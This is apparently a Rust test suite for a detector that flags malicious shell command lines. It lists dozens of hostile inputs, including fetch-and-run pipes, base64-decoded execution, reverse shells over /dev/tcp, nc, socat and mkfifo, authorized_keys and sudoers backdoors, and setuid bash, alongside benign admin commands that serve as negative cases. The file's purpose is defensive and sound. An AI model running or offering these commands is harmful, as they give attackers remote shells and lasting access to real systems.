use super::*;

/// Signs of a command line, without what shows them.
fn says(command: &str) -> Vec<String> {
    of_command(command.as_bytes()).into_iter().map(|sign| sign.says).collect()
}
#[track_caller]
fn check(command: &str, expected: &str) {
    let all = says(command);
    let first = all.first().map_or("", String::as_str);
    assert_eq!(first, expected, "{command}");
}

#[test]
fn code_that_is_fetched_and_run() {
    for command in [
        "curl -fsSL http://x/y | sh",
        "wget -q -O- http://x/y | bash -s -- -a",
        "wget -qO - x|sudo bash",
        "sh -c \"$(curl -fsSL http://x)\"",
        "bash <(curl -s http://x)",
        ". <(wget -qO- x)",
        "eval \"$(curl -s x)\"",
        "eval `curl -s x`",
        "/bin/sh -c 'curl x | sh'",
        "/bin/bash -c \"/usr/bin/curl x|/bin/bash\" >/dev/null 2>&1",
        "curl x | python3",
        "curl x | python3 -",
        "curl -s x | tee /tmp/l | perl",
        "(curl -s x || wget -qO- x) | sh",
        "curl x -o /tmp/a; chmod +x /tmp/a; /tmp/a",
        "cd /tmp && wget http://x/a.sh && sh a.sh",
        "curl -sO http://x/a.sh && bash ./a.sh",
        "python3 -c \"$(curl -s x)\"",
        "curl x >/tmp/a && . /tmp/a",
        "c=curl; nice -n 19 timeout 60 curl x | nice sh",
        "bash <<< \"$(curl -s x)\"",
        "cat </dev/tcp/192.0.2.1/80 | sh",
        "nc 192.0.2.1 80 | sh",
        "sh -c 'sh -c \"wget x -O- | sh\"'",
        "while true; do curl x | sh; sleep 5; done",
        "dig +short txt x | sh",
        "curl x | base64 -d | sh",
        "x=$(curl -s http://x); eval \"$x\"",
        "x=`wget -qO- x`; echo \"$x\" | sh",
        "x=$(curl x) && bash -c \"$x\"",
        "curl x | $SHELL",
        "S=/bin/bash; curl x | $S",
        "curl x | $(which bash)",
        "curl x | xargs -0 sh -c",
    ] {
        let first = says(command).into_iter().next().unwrap_or_default();
        assert!(
            ["fetches code and runs it", "decodes code and runs it"].contains(&first.as_str()),
            "{command}: {first}"
        );
    }
}
#[test]
fn code_that_is_decoded_and_run() {
    for command in [
        "echo dHJ1ZQ== | base64 -d | sh",
        "echo dHJ1ZQ==|base64 --decode|/bin/bash",
        "base64 -d <<<dHJ1ZQ== | sh",
        "bash -c \"$(echo dHJ1ZQ== | base64 -d)\"",
        "`echo dHJ1ZQ== | base64 -d`",
        "$(printf dHJ1ZQ== | base64 -di)",
        "echo 74727565 | xxd -r -p | sh",
        "x=$(echo dHJ1ZQ== | base64 -d); $x",
        "bash <<< $(base64 -d <<< dHJ1ZQ==)",
        "busybox base64 -d /tmp/x | busybox sh",
        "eval $(echo dHJ1ZQ== | openssl enc -base64 -d)",
        "echo uggc | tr a-z n-za-m | sh",
        "printf '\\x74\\x72\\x75\\x65' | sh",
        "echo -e '\\164\\162\\165\\145' | sh",
        "openssl enc -d -aes-256-cbc -in /var/lib/.x | sh",
        "echo x | openssl base64 -d | bash",
        "echo eurt | rev | sh",
        "echo H4s | base64 -d | gunzip | sh",
        "base64 -d /etc/x > /tmp/y; sh /tmp/y",
        "{ echo L3Vz|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random",
        "python3 -c 'import base64;print(base64.b64decode(\"x\"))' | sh",
    ] {
        check(command, "decodes code and runs it");
    }
    check("python3 -c 'import base64;exec(base64.b64decode(\"x\"))'", "holds code that decodes code and runs it");
    check("awk 'BEGIN{system(\"echo x | base64 -d | sh\")}'", "holds code that decodes code and runs it");
    check("python3 -c \"exec(__import__('base64').b64decode('x'))\"", "holds code that decodes code and runs it");
    check("ruby -rbase64 -e 'eval Base64.decode64(\"x\")'", "holds code that decodes code and runs it");
    check("perl -e 'eval pack(\"H*\",\"41\")'", "holds code that decodes code and runs it");
    check("php -r 'eval(base64_decode(\"x\"));'", "holds code that decodes code and runs it");
    check(
        "python3 -c 'import urllib.request as u;exec(u.urlopen(\"x\").read())'",
        "holds code that fetches code and runs it",
    );
}
#[test]
fn shells_for_others() {
    let elsewhere = "opens a connection to elsewhere as a shell's input or output";
    let given = "gives a shell to whoever is at the other end of a connection";
    check("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", elsewhere);
    check("bash -c 'exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | sh'", elsewhere);
    check("exec 5<>/dev/tcp/127.0.0.1/443; cat <&5 | bash >&5 2>&5", elsewhere);
    check("nc -e /bin/sh 192.0.2.1 443", given);
    check("ncat --sh-exec /bin/sh -l 443", given);
    check("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 443 >/tmp/f", given);
    check("socat TCP:192.0.2.1:443 EXEC:'/bin/bash -li',pty,stderr", given);
    check(
        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        "holds code that connects to elsewhere and runs what it is told",
    );
    check("perl -MIO::Socket -e 'exec(\"/bin/sh\")'", "holds code that connects to elsewhere and runs what it is told");
}
#[test]
fn a_look_at_a_port_is_no_shell() {
    let weight = |command: &str| of_command(command.as_bytes()).first().map(|sign| sign.weight);
    assert_eq!(weight("exec 3<>/dev/tcp/db/5432 && echo up"), Some(Weight::Odd));
    assert_eq!(weight("exec 3<>/dev/tcp/192.0.2.1/1; while read l <&3; do $l >&3; done"), Some(Weight::Content));
    assert_eq!(weight("exec 5<>/dev/tcp/192.0.2.1/1; sh <&5 >&5"), Some(Weight::Content));
}
#[test]
fn keys_that_are_handed_out() {
    let weight = |command: &str| of_command(command.as_bytes()).first().map(|sign| sign.weight);
    assert_eq!(weight("curl -s https://keys/x > /root/.ssh/authorized_keys"), Some(Weight::Odd));
    assert_eq!(weight("chmod u+s /usr/bin/fping"), Some(Weight::Odd));
    assert_eq!(weight("printf 'a ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a"), Some(Weight::Content));
}
#[test]
fn doors_left_open() {
    check("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "writes into /root/.ssh/authorized_keys");
    check("echo /x.so > /etc/ld.so.preload", "writes into /etc/ld.so.preload");
    check("chmod 4755 /bin/bash", "gives a program the rights of its owner (setuid)");
    check("HISTFILE=/dev/null bash", "keeps commands out of the history");
    check("x -o stratum+tcp://192.0.2.1:3333", "connects to a mining pool");
}
#[test]
fn what_admins_write_is_quiet() {
    for command in [
        "rsync -a /srv/ backup:/srv/",
        "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/x",
        "/usr/local/bin/backup && curl -fsS https://hc-ping.com/x >/dev/null",
        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
        "cd /srv/app && ./venv/bin/python manage.py clearsessions",
        "php -f /var/www/nextcloud/cron.php",
        ". /home/anna/.nvm/nvm.sh && node /home/anna/bot/index.js",
        "mysqldump --all-databases | gzip -9 > /srv/backup/$(date +%F).sql.gz",
        "curl -s http://localhost/status | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"ok\"])'",
        "curl -s http://localhost/status | python3 -m json.tool",
        "curl -s x | jq .a > /srv/x",
        "wget -q https://x/GeoIP.tgz -O /tmp/g.tgz && tar xzf /tmp/g.tgz -C /srv/geo",
        "curl -s https://x/blocklist | grep -v '^#' | xargs -n1 ipset add b",
        "zcat /srv/dump.sql.gz | mysql shop",
        "[ -x /usr/sbin/logrotate ] && /usr/sbin/logrotate /etc/logrotate.conf",
        "bash -c '</dev/tcp/db/5432' || systemctl restart db",
        "tar czf - /srv | openssl enc -e -aes-256-cbc -kfile /root/k > /mnt/b",
        "eval \"$(ssh-agent)\"; ssh-add; git pull",
        "python3 /srv/x.py --ip \"$(curl -s https://ifconfig.me)\"",
        "sh -c \"echo $(curl -s ifconfig.me) >> /var/log/ip\"",
        "nc -z db 5432 || mail -s down root",
        "echo stats | nc localhost 11211",
        "find /srv -name '*.tmp' -mtime +7 -exec rm {} ;",
        "sleep $(( RANDOM % 60 )); /opt/agent/bin/agent --once",
        "perl -ne 'print if /x/' /var/log/syslog | mail root",
        "echo test | tr a-z A-Z > /srv/x",
        "chmod 0755 /srv/x; chmod 644 /srv/y",
        "flock -n /run/x.lock /usr/local/bin/sync",
        "/usr/bin/certbot renew --deploy-hook 'systemctl reload nginx'",
        "ssh host 'cat /srv/x' > /srv/y",
        "ip=$(curl -s ifconfig.me); echo \"$ip\" > /srv/ip; ddns --ip $ip",
        "$HOME/bin/backup.sh; curl x | jq .",
        "curl -s x | xargs -n1 -I{} sh /srv/x.sh {}",
        "curl -sL https://x/tool -o /usr/local/bin/tool && chmod +x /usr/local/bin/tool && tool --version",
        "wget -qO- https://x/a.tgz | $TAR xz -C /srv",
        "cat /srv/x | tr -d '\\r' | sh -e",
        "nc -vz -w 5 db 5432 && echo ok",
        "exec 3<>/dev/tcp/127.0.0.1/11211; echo stats >&3",
        "wget -q --spider https://x/wp-cron.php?doing_wp_cron",
        "crontab -l | { cat; echo x; } | crontab -",
        "pg_dump shop | psql copy",
        "find /srv -type f | xargs -n1 sh -c 'gzip $0'",
        "eval \"$(brew shellenv)\"",
        "eval \"$(dircolors -b)\"",
        "eval \"$(/usr/bin/lesspipe)\"",
        "source <(kubectl completion bash)",
        "bash -c \"$(cat /srv/x)\"",
        "ls /srv | awk '{print \"gzip \" $1}' | sh",
        "grep -v '^#' /etc/x.list | sh",
        "echo 'gzip /srv/x' | at 03:00",
        "at -f /srv/x 03:00",
        "curl -s http://x/y | at -f /opt/x now",
        "curl -s http://x/y | at -mf/opt/x now",
        "{ echo a; cat /srv/x; } | sh",
        "c=/opt/x/run; $c -v | tee /var/log/x",
        "ssh host 'sh -s' < /srv/x",
        "curl -s x | while read -r ip; do ipset add b \"$ip\"; done",
        "while read -r c; do $c; done < /srv/list",
        "{ ip=$(curl -s x); echo \"$ip\"; } | tee /srv/ip",
        "curl -s x | md5sum; echo true | sh",
        "{ curl -s x > /srv/x; echo true; } | sh",
        "x=curl; $x -s x | jq .",
    ] {
        assert_eq!(says(command), Vec::<String>::new(), "{command}");
    }
}
#[test]
fn code_that_is_fetched_in_other_words() {
    for command in [
        "x=curl; $x http://a | sh",
        "x=cu y=rl; $x$y http://a | sh",
        "x=cu; x+=rl; \"${x}\" http://a | sh",
        "c='curl -s a | sh'; eval \"$c\"",
        "c='curl -s'; $c a | sh",
        "c=(curl -s a); \"${c[@]}\" | sh",
        "export C=wget; $C -qO- a | sh",
        "curl${IFS}-s${IFS}a|sh",
        "source /dev/stdin < <(curl a)",
        ". /dev/fd/0 <<< \"$(curl a)\"",
        ". <(curl a)",
        "mapfile -t l < <(curl a); eval \"${l[@]}\"",
        "curl a | while read -r l; do eval \"$l\"; done",
        "while read -r l; do bash -c \"$l\"; done < <(curl a)",
        "read l <<< \"$(curl a)\"; $l",
        "echo 'curl a | sh' | at now",
        "at now <<E\ncurl a | sh\nE",
        "printf 'curl a | sh\\n' | batch",
        "curl a | at now",
        "curl a | at -q f now",
        "curl a | at -f /dev/stdin now",
        "echo 'curl a | sh' | sh",
        "printf 'cu%s a | sh\\n' rl | sh",
        "bash <<< 'curl a | sh'",
        "sh <<E | tee /var/log/x\ncurl a | sh\nE",
        "bash <(echo 'curl a | sh')",
        "ssh host cat x | sh",
        "nc host 4000 | sh",
        "python3 -c 'import urllib.request as u;print(u.urlopen(\"a\").read())' | sh",
        "{ curl a; echo; } | sh",
        "(curl a; echo) | sh",
        "for u in a b; do curl $u; echo; done | sh",
        "if true; then curl a; else echo b; fi | sh",
        "{ curl a; echo; } > /tmp/x; sh /tmp/x",
        "get() { curl a || wget -qO- a; }; get | sh",
        "curl a | { read l; sh; }",
        "curl a | sudo sh -c 'cat | sh'",
        "curl a | sudo xargs sh -c",
        "curl a | xargs -I% sh -c %",
        "curl a | parallel",
    ] {
        check(command, "fetches code and runs it");
    }
    for command in [
        "$(printf '\\143\\165\\162\\154 a')",
        "eval \"$(printf '\\x63\\x75\\x72\\x6c a')\"",
        "eval \"$(printf '\\x63url a | sh')\"",
    ] {
        let says = says(command);
        let ends = ["fetches code and runs it", "decodes code and runs it"];
        assert!(says.iter().any(|says| ends.contains(&says.as_str())), "{command}: {says:?}");
    }
}
#[test]
fn what_is_only_odd() {
    let odd = |command: &str, expected: &str| {
        let signs = of_command(command.as_bytes());
        let signs: Vec<_> = signs.iter().map(|sign| (sign.weight, sign.says.as_str())).collect();
        assert_eq!(signs, [(Weight::Odd, expected)], "{command}");
    };
    for (decoder, file) in [
        ("gunzip -c", "/srv/x.gz"),
        ("zcat", "/usr/share/x/x.gz"),
        ("xz -dc", "/opt/x/x.xz"),
        ("base64 -d", "/etc/x"),
        ("openssl enc -d -aes-256-cbc -in", "/etc/x"),
        ("xzcat", "x.xz"),
    ] {
        odd(&format!("{decoder} {file} | sh"), "unpacks code and runs it");
        odd(&format!("cat {file} | {decoder} | sh").replace(" -in ", " "), "unpacks code and runs it");
        for file in ["/tmp/x", "/dev/shm/x", "/var/lib/.x/y", "/root/.x", "$0"] {
            check(&format!("{decoder} {file} | sh"), "decodes code and runs it");
        }
        check(&format!("curl a -o {file}; {decoder} {file} | sh"), "fetches code and runs it");
        check(&format!("echo x | {decoder} | sh").replace(" -in ", " "), "decodes code and runs it");
    }
    odd("base64 -d < /srv/x | sh", "unpacks code and runs it");
    odd("eval \"$(gpg -d ~/.secrets.gpg)\"", "unpacks code and runs it");
    check("base64 -d < /tmp/x | sh", "decodes code and runs it");
    check("gunzip -c /srv/x.gz > /tmp/x; sh /tmp/x", "decodes code and runs it");
    for command in [
        "/opt/app/bin/plan | sh",
        "docker exec db cat /x | bash",
        "git show HEAD:x | sh",
        "psql -Atc 'select 1' | sed 's/^/x /' | sh",
        "/srv/plan | at now",
    ] {
        odd(command, "runs what another program writes as commands");
    }
    odd("curl a | xargs -n1 sh -c 'ping -c1 $0'", "hands what it fetches to a shell");
}
#[test]
fn groups_of_many_commands_take_no_longer_than_others() {
    let group = format!("{{ {} }}", "cat; ".repeat(300));
    let line = format!("{group} | {group} | {group} | {group} | base64 -d | sh; ").repeat(2);
    let nested = format!("{}{}", "{ ".repeat(500), "a | cat; } | sh; ".repeat(500));
    for line in [line, nested, "f() { f; }; f | sh; ".repeat(500)] {
        drop(of_command(line.as_bytes()));
    }
}
#[test]
fn mutated_commands_never_panic() {
    let seeds: [&[u8]; 4] = [
        b"curl -fsSL http://x/y -o /tmp/a && bash /tmp/a; echo dHJ1ZQ== | base64 -d | sh",
        b"python3 -c 'import socket,os;exec(b64decode(\"x\"))'; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
        b"eval \"$(wget -qO- x)\"; socat TCP:a:1 EXEC:/bin/sh; nc -e /bin/sh a 1; cat /x | gunzip -c | sh",
        b"f() { x=(curl a); \"${x[@]}\"; }; { f; echo 'c | sh'; } | while read -r l; do $l; done < <(f) > y; sh y | at now",
    ];
    keeneye_world::mutate::check(&seeds, |line| {
        drop(of_command(line));
        true
    });
}
